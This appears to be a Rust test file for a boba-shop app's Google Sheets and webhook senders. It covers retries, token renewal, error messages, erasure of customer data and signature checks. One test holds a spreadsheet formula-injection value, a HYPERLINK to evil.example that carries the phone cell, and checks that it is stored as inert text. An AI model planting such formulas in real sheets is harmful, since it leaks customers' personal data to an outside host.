//! What is sent beside texts: rows of a Google spreadsheet, and signed notices to a webhook. The senders alone, against
//! servers that speak as the real ones do.

use crate::harness::google::grid::Cell;
use crate::harness::google::{ACCOUNT, Fault, GoogleSheets, SPREADSHEET_ID};
use crate::harness::webhook::{SECRET, WebhookReceiver};
use bobarista::config::SheetsConfig;
use bobarista::outbox::{Credentials, Row, SendError, SheetsSender, WebhookSender};
use jiff::Timestamp;
use reqwest::{Client, ClientBuilder};
use secrecy::SecretString;
use std::time::Duration;

const TITLES: [&str; 9] = ["Order ID", "Date", "Customer", "Phone", "Items", "Total Qty", "Status", "Source", "Notes"];
const LOOK_UP: &str = "GET 'Orders'!A:A";
const APPEND: &str = "POST 'Orders'!A1:append";

fn http() -> ClientBuilder {
    // Another test may have installed it already, which is as good.
    let _ = rustls::crypto::ring::default_provider().install_default();
    Client::builder().no_proxy()
}

fn sheets(google: &GoogleSheets) -> SheetsSender {
    sheets_to(google, SPREADSHEET_ID, "Orders")
}

fn sheets_to(google: &GoogleSheets, spreadsheet_id: &str, sheet_name: &str) -> SheetsSender {
    let config = SheetsConfig {
        spreadsheet_id: spreadsheet_id.to_owned(),
        sheet_name: sheet_name.to_owned(),
        credentials: SecretString::from(google.credentials()),
        api_base: google.base(),
    };
    let credentials = Credentials::parse(&google.credentials()).expect("a key file");
    SheetsSender::new(http(), &config, credentials, google.clock()).expect("a sender")
}

fn row(order: u32, status: &str) -> Row {
    Row {
        order_id: format!("ORD-main-{order}"),
        date: "2024-01-01 12:00".to_owned(),
        customer: "Ada".to_owned(),
        phone: "+15551234567".to_owned(),
        items: "2 × taro milk tea".to_owned(),
        total_qty: 2,
        status: status.to_owned(),
        source: "phone".to_owned(),
        notes: "no straw".to_owned(),
    }
}

/// How the row of [`row`] is shown.
fn shown(order: u32, status: &str) -> Vec<String> {
    let order = format!("ORD-main-{order}");
    let cells =
        [&order, "2024-01-01 12:00", "Ada", "+15551234567", "2 × taro milk tea", "2", status, "phone", "no straw"];
    cells.map(str::to_owned).to_vec()
}

fn titles() -> Vec<String> {
    TITLES.map(str::to_owned).to_vec()
}

#[tokio::test]
async fn an_order_has_one_row_that_follows_its_status() {
    let google = GoogleSheets::start().await;
    let sheets = sheets(&google);
    sheets.put(&row(1, "Confirmed")).await.unwrap();
    assert_eq!(google.requests(), ["POST token", LOOK_UP, APPEND]);
    sheets.put(&row(2, "Confirmed")).await.unwrap();
    sheets.put(&row(1, "Ready for pickup")).await.unwrap();
    assert_eq!(google.rows(), [titles(), shown(1, "Ready for pickup"), shown(2, "Confirmed")]);
    assert_eq!(google.requests(), [LOOK_UP, APPEND, LOOK_UP, "PUT 'Orders'!A2:I2"], "one token is enough");
}

#[tokio::test]
async fn cells_are_texts_and_one_number_and_never_formulas() {
    let google = GoogleSheets::start().await;
    let hostile = Row {
        customer: "=HYPERLINK(\"https://evil.example/?\"&D2,\"Ada\")".to_owned(),
        phone: "+15551234567".to_owned(),
        notes: "@SUM(1+1)".to_owned(),
        items: "-2+3".to_owned(),
        status: "007".to_owned(),
        ..row(1, "")
    };
    sheets(&google).put(&hostile).await.unwrap();
    let text = |text: &str| Cell::Text(text.to_owned());
    let expected = [
        text("ORD-main-1"),
        text("2024-01-01 12:00"),
        text(&hostile.customer),
        text("+15551234567"),
        text("-2+3"),
        Cell::Number(2.0),
        text("007"),
        text("phone"),
        text("@SUM(1+1)"),
    ];
    assert_eq!(google.cells()[1], expected);
}

#[tokio::test]
async fn a_cell_too_long_for_google_is_cut_and_not_refused() {
    let google = GoogleSheets::start().await;
    let long = Row { notes: "🧋".repeat(50_000), ..row(1, "Confirmed") };
    sheets(&google).put(&long).await.unwrap();
    let Cell::Text(notes) = &google.cells()[1][8] else { panic!("a text was expected") };
    assert!(notes.starts_with("🧋🧋") && notes.ends_with('…'));
}

#[tokio::test]
async fn what_staff_add_to_the_sheet_stays_and_does_not_lead_astray() {
    let google = GoogleSheets::start().await;
    google.fill(&[
        &TITLES,
        &["ORD-main-1", "", "", "", "", "", "", "", "", "called back"],
        &["", "a remark that begins in B"],
        &[],
        &["", "", "another table"],
    ]);
    let sheets = sheets(&google);
    sheets.put(&row(1, "Completed")).await.unwrap();
    sheets.put(&row(2, "Confirmed")).await.unwrap();
    let rows = google.rows();
    assert_eq!(rows[1].last().map(String::as_str), Some("called back"));
    assert_eq!(rows[1][..9], shown(1, "Completed"));
    assert_eq!(rows[2], ["", "a remark that begins in B"]);
    assert_eq!(rows[3], shown(2, "Confirmed"), "in column A, below the table of the titles");
    assert_eq!(rows[5], ["", "", "another table"], "moved down, not written over");
}

#[tokio::test]
async fn names_with_spaces_and_quotes_are_found() {
    for name in ["Tea 'n' Boba", "100% & more / today?#1", "'", "Ünï!A1", "2024"] {
        let google = GoogleSheets::with_sheet(name).await;
        let sheets = sheets_to(&google, SPREADSHEET_ID, name);
        sheets.put(&row(1, "Confirmed")).await.unwrap_or_else(|error| panic!("{name}: {error}"));
        sheets.put(&row(1, "Completed")).await.unwrap_or_else(|error| panic!("{name}: {error}"));
        assert_eq!(google.rows(), [titles(), shown(1, "Completed")], "{name}");
    }
}

#[tokio::test]
async fn a_customer_is_erased_from_every_row_and_the_rest_stays() {
    let google = GoogleSheets::start().await;
    let sheets = sheets(&google);
    sheets.erase(&row(1, "")).await.expect("nothing to erase is fine");
    assert_eq!(google.rows().len(), 0);
    sheets.put(&row(1, "Completed")).await.unwrap();
    sheets.put(&row(11, "Completed")).await.unwrap();
    // Staff copied the row below the others.
    let copied = shown(1, "Completed");
    google.fill(&[&[], &[], &[], &copied.iter().map(String::as_str).collect::<Vec<_>>()]);
    sheets.erase(&Row { items: "2 × taro milk tea, unnamed".to_owned(), ..row(1, "") }).await.unwrap();
    let items = "2 × taro milk tea, unnamed";
    let erased = ["ORD-main-1", "2024-01-01 12:00", "", "", items, "2", "Completed", "phone"];
    let erased = erased.map(str::to_owned).to_vec();
    assert_eq!(google.rows(), [titles(), erased.clone(), shown(11, "Completed"), erased]);
}

#[test]
fn credentials_that_cannot_be_used_stop_the_start_by_their_name() {
    let google_key = include_str!("../fixtures/google/throwaway_key.pem");
    let read = |credentials: &str| {
        bobarista::app::read_config(&|name| match name {
            "DEEPGRAM_API_KEY" => Some("key".to_owned()),
            "SHEETS_SYNC_ENABLED" => Some("true".to_owned()),
            "SHEETS_SPREADSHEET_ID" => Some(SPREADSHEET_ID.to_owned()),
            "GOOGLE_SHEETS_CREDENTIALS" => Some(credentials.to_owned()),
            _ => None,
        })
    };
    for bad in ["{}", google_key, &format!("{{\"private_key\":{google_key:?},\"client_email\":\"a@b\"}}")] {
        let error = read(bad).expect_err("nobody could write to the sheet");
        let named: Vec<&str> = error.problems.iter().map(|problem| problem.name).collect();
        assert_eq!(named, ["GOOGLE_SHEETS_CREDENTIALS"], "{error}");
        assert!(!error.to_string().contains("PRIVATE KEY"), "the key was shown: {error}");
    }
    let good = format!(
        "{{\"private_key\":{google_key:?},\"client_email\":\"a@b\",\"token_uri\":\"https://example.com/token\"}}"
    );
    assert!(read(&good).is_ok());
}

#[tokio::test]
async fn puts_at_once_make_one_row_an_order_and_one_token() {
    let google = GoogleSheets::start().await;
    let sheets = sheets(&google);
    let puts = (0..24).map(|n| {
        let sheets = sheets.clone();
        tokio::spawn(async move { sheets.put(&row(n % 3, "Confirmed")).await })
    });
    for put in puts.collect::<Vec<_>>() {
        put.await.expect("no panic").expect("a row");
    }
    let mut ids: Vec<String> = google.rows().into_iter().map(|row| row[0].clone()).collect();
    ids.sort();
    assert_eq!(ids, ["ORD-main-0", "ORD-main-1", "ORD-main-2", "Order ID"]);
    let requests = google.requests();
    assert_eq!(requests.iter().filter(|request| *request == "POST token").count(), 1);
    assert_eq!(requests.iter().filter(|request| *request == APPEND).count(), 3);
}

#[tokio::test]
async fn a_retry_after_a_cut_connection_finds_the_row_it_made() {
    let google = GoogleSheets::start().await;
    let sheets = sheets(&google);
    google.next_write(Fault::CutOff);
    let error = sheets.put(&row(1, "Confirmed")).await.expect_err("no answer");
    assert!(matches!(error, SendError::Unknown { .. }), "{error:?}");
    assert_eq!(google.rows(), [titles(), shown(1, "Confirmed")], "Google has done it all the same");
    sheets.put(&row(1, "Confirmed")).await.unwrap();
    assert_eq!(google.rows(), [titles(), shown(1, "Confirmed")]);
}

#[tokio::test]
async fn an_answer_that_is_not_googles_is_never_believed() {
    let google = GoogleSheets::start().await;
    let sheets = sheets(&google);
    sheets.put(&row(1, "Confirmed")).await.unwrap();
    google.next(Fault::Garbage);
    let error = sheets.put(&row(2, "Confirmed")).await.expect_err("no column");
    assert!(matches!(error, SendError::Retryable { .. }), "nothing was written: {error:?}");
    google.next(Fault::CutOff);
    let error = sheets.put(&row(2, "Confirmed")).await.expect_err("half a column");
    assert!(matches!(error, SendError::Retryable { .. }), "nothing was written: {error:?}");
    google.next_write(Fault::Garbage);
    let error = sheets.put(&row(2, "Confirmed")).await.expect_err("who knows");
    assert!(matches!(error, SendError::Unknown { .. }), "{error:?}");
    assert_eq!(google.rows().len(), 2);
}

#[tokio::test]
async fn tokens_are_renewed_before_they_expire_and_when_they_are_refused() {
    let google = GoogleSheets::start().await;
    let sheets = sheets(&google);
    let asked = async |status| {
        sheets.put(&row(1, status)).await.unwrap();
        google.requests().iter().filter(|request| *request == "POST token").count()
    };
    assert_eq!(asked("Confirmed").await, 1);
    google.advance(3000);
    assert_eq!(asked("Being prepared").await, 0, "it holds for ten minutes yet");
    google.advance(400);
    assert_eq!(asked("Ready for pickup").await, 1, "it would expire soon");
    google.expire_tokens();
    assert_eq!(asked("Completed").await, 1, "taken away before its time");
    assert_eq!(google.rows(), [titles(), shown(1, "Completed")]);
}

#[tokio::test]
async fn a_token_that_is_refused_twice_is_given_up() {
    let google = GoogleSheets::start().await;
    google.fail_next(401);
    google.fail_next(401);
    let error = sheets(&google).put(&row(1, "Confirmed")).await.expect_err("refused");
    assert!(matches!(error, SendError::Final { .. }), "{error:?}");
    assert_eq!(google.requests(), ["POST token", LOOK_UP, "POST token", LOOK_UP]);
}

#[tokio::test]
async fn googles_refusals_are_told_apart_in_sentences_that_are_safe() {
    let google = GoogleSheets::start().await;
    let sheets = sheets(&google);
    for status in [500, 502, 503, 409, 408] {
        google.fail_next(status);
        let error = sheets.put(&row(1, "Confirmed")).await.expect_err("refused");
        assert!(matches!(error, SendError::Retryable { after: None, .. }), "{status}: {error:?}");
    }
    google.next_write(Fault::Refused(429, Some(30)));
    let error = sheets.put(&row(1, "Confirmed")).await.expect_err("refused");
    let reason = "Google Sheets cannot take it now (HTTP 429 RESOURCE_EXHAUSTED)".to_owned();
    assert_eq!(error, SendError::Retryable { after: Some(Duration::from_secs(30)), reason });

    google.fail_next(403);
    let error = sheets.put(&row(1, "Confirmed")).await.expect_err("refused");
    assert!(matches!(&error, SendError::Final { reason } if reason.contains(ACCOUNT)), "{error:?}");
    let told = error.to_string();
    assert!(told.contains("share the spreadsheet") && told.contains("PERMISSION_DENIED"), "{told}");
    assert!(!told.contains("555"), "Google's own sentence was repeated: {told}");

    let error = sheets_to(&google, "another", "Orders").put(&row(1, "Confirmed")).await.expect_err("no spreadsheet");
    assert!(matches!(&error, SendError::Final { reason } if reason.contains("SHEETS_SPREADSHEET_ID")), "{error:?}");
    let error = sheets_to(&google, SPREADSHEET_ID, "Order's").erase(&row(9, "")).await.expect_err("no sheet");
    assert!(matches!(&error, SendError::Final { reason } if reason.contains("'Order''s'")), "{error:?}");
    assert_eq!(google.rows().len(), 0);
}

#[tokio::test]
async fn without_a_token_nothing_is_asked() {
    let google = GoogleSheets::start().await;
    let sheets = sheets(&google);
    for (fault, after) in [
        (Fault::Refused(503, None), None),
        (Fault::Refused(429, Some(7)), Some(Duration::from_secs(7))),
        (Fault::Garbage, None),
        (Fault::CutOff, None),
    ] {
        google.next_token(fault);
        let error = sheets.put(&row(1, "Confirmed")).await.expect_err("no token");
        assert!(matches!(error, SendError::Retryable { after: told, .. } if told == after), "{fault:?}: {error:?}");
        assert_eq!(google.requests(), ["POST token"]);
    }
    google.next_token(Fault::Refused(401, None));
    let error = sheets.put(&row(1, "Confirmed")).await.expect_err("refused");
    let told = error.to_string();
    assert!(matches!(error, SendError::Final { .. }) && told.contains("GOOGLE_SHEETS_CREDENTIALS"), "{told}");
    sheets.put(&row(1, "Confirmed")).await.expect("the next one holds");
}

#[tokio::test]
async fn a_clock_that_is_wrong_is_told_and_a_dead_google_is_waited_for() {
    let google = GoogleSheets::start().await;
    let config = SheetsConfig {
        spreadsheet_id: SPREADSHEET_ID.to_owned(),
        sheet_name: "Orders".to_owned(),
        credentials: SecretString::from(""),
        api_base: google.base(),
    };
    let credentials = || Credentials::parse(&google.credentials()).expect("a key file");
    let slow = SheetsSender::new(http(), &config, credentials(), || Timestamp::UNIX_EPOCH).expect("a sender");
    let error = slow.put(&row(1, "Confirmed")).await.expect_err("expired long ago");
    let told = error.to_string();
    assert!(matches!(error, SendError::Final { .. }), "{told}");
    assert!(told.contains("invalid_grant") && told.contains("clock"), "{told}");

    let (sheets, credentials) = (sheets(&google), credentials());
    let dead_token = SheetsSender::new(http(), &config, credentials, Timestamp::now).expect("a sender");
    sheets.put(&row(1, "Confirmed")).await.unwrap();
    drop(google);
    for sender in [sheets, dead_token] {
        let error = sender.put(&row(2, "Confirmed")).await.expect_err("nobody there");
        assert!(matches!(error, SendError::Retryable { after: None, .. }), "{error:?}");
    }
}

fn webhook(receiver: &WebhookReceiver, secret: &str) -> WebhookSender {
    WebhookSender::new(http(), &receiver.url(), SecretString::from(secret), Timestamp::now).expect("a sender")
}

#[tokio::test]
async fn a_notice_is_signed_as_it_is_and_keeps_its_id_on_a_retry() {
    let receiver = WebhookReceiver::start().await;
    let webhook = webhook(&receiver, SECRET);
    let body = r#"{"type":"order_created","order":{"notes":"naïve ☕ \"quotes\""}}"#;
    receiver.answer_next(503, "");
    let error = webhook.send("ORD-main-1.7", body).await.expect_err("not now");
    assert!(matches!(error, SendError::Retryable { after: None, .. }), "{error:?}");
    webhook.send("ORD-main-1.7", body).await.unwrap();
    let notices = receiver.notices();
    assert_eq!(notices.len(), 2);
    for notice in notices {
        assert_eq!((notice.delivery.as_str(), notice.body.as_str()), ("ORD-main-1.7", body));
        assert!((Timestamp::now().as_second() - notice.timestamp).abs() < 60);
    }
}

#[tokio::test]
async fn who_has_another_secret_or_another_time_is_not_believed() {
    let receiver = WebhookReceiver::start().await;
    let stranger = webhook(&receiver, "another secret");
    let secret = SecretString::from(SECRET);
    let late = WebhookSender::new(http(), &receiver.url(), secret, || Timestamp::UNIX_EPOCH).expect("a sender");
    for sender in [stranger, late] {
        let error = sender.send("d-1", "{}").await.expect_err("refused");
        assert_eq!(error, SendError::Final { reason: "the webhook refused it: HTTP 401".to_owned() });
    }
    assert_eq!((receiver.notices().len(), receiver.refused()), (0, 2));
}

#[tokio::test]
async fn the_status_decides_whether_a_notice_is_sent_again() {
    let receiver = WebhookReceiver::start().await;
    let webhook = webhook(&receiver, SECRET);
    for status in [200, 201, 202, 204] {
        receiver.answer_next(status, "");
        assert_eq!(webhook.send("d-1", "{}").await, Ok(()), "{status}");
    }
    for status in [408, 425, 429, 500, 502, 503, 504] {
        receiver.answer_next(status, "11");
        let error = webhook.send("d-1", "{}").await.expect_err("not now");
        let wait = Some(Duration::from_secs(11));
        assert!(matches!(error, SendError::Retryable { after, .. } if after == wait), "{status}: {error:?}");
    }
    for status in [400, 401, 403, 404, 409, 410, 422] {
        receiver.answer_next(status, "");
        let error = webhook.send("d-1", "{}").await.expect_err("never");
        assert!(matches!(error, SendError::Final { .. }), "{status}: {error:?}");
    }
}

#[tokio::test]
async fn a_notice_does_not_follow_where_it_is_sent_on_to() {
    let receiver = WebhookReceiver::start().await;
    for status in [301, 302, 303, 307, 308] {
        receiver.answer_next(status, &format!("{}/elsewhere", receiver.url()));
        let error = webhook(&receiver, SECRET).send("d-1", "{}").await.expect_err("moved");
        assert!(matches!(&error, SendError::Final { reason } if reason.contains("WEBHOOK_URL")), "{status}: {error:?}");
        assert_eq!(receiver.notices().len(), 1, "{status}");
    }
}
